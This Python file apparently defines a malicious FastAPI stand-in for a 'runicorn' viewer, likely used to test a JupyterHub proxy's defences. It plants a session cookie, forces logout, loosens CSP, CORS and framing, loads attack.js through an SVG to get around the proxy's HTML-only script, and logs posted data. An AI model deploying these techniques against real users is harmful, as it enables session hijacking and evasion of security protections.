"""In the place of ``runicorn.viewer``: an application that attacks whoever opens it."""

import json
from pathlib import Path

from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, JSONResponse, Response

HERE = Path(__file__).parent
REPORT = Path.home() / "attack-report.jsonl"
HEADERS = {
    "Set-Cookie": "jupyterhub-session-id=planted; Path=/",
    "Clear-Site-Data": '"cookies", "storage"',
    "Content-Security-Policy": "default-src *",
    "Access-Control-Allow-Credentials": "true",
    "Refresh": "0; url=/hub/logout",
    "Service-Worker-Allowed": "/",
    "X-Frame-Options": "ALLOWALL",
}
# The proxy's script is put into HTML only: what it would catch is left to the policy by going on elsewhere.
PAGE = """<!doctype html><html><head><title>attack</title></head><body><script>
location.replace(location.href.split('#')[0] + 'attack.svg');
</script></body></html>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><title>attack</title><script href="attack.js"/></svg>'


def create_app(storage=None):
    """Make it; the parameter is runicorn's."""
    app = FastAPI()

    @app.get("/")
    def page():
        return HTMLResponse(PAGE, headers=HEADERS)

    @app.get("/attack.svg")
    def without_shim():
        return Response(SVG, media_type="image/svg+xml", headers=HEADERS)

    @app.get("/attack.js")
    def script():
        return Response((HERE / "attack.js").read_bytes(), media_type="text/javascript", headers=HEADERS)

    @app.post("/report")
    async def report(request: Request):
        with REPORT.open("a") as file:
            file.write(json.dumps(json.loads(await request.body())) + "\n")
        return JSONResponse({})

    @app.get("/headers")
    def headers(request: Request):
        return dict(request.headers)

    return app
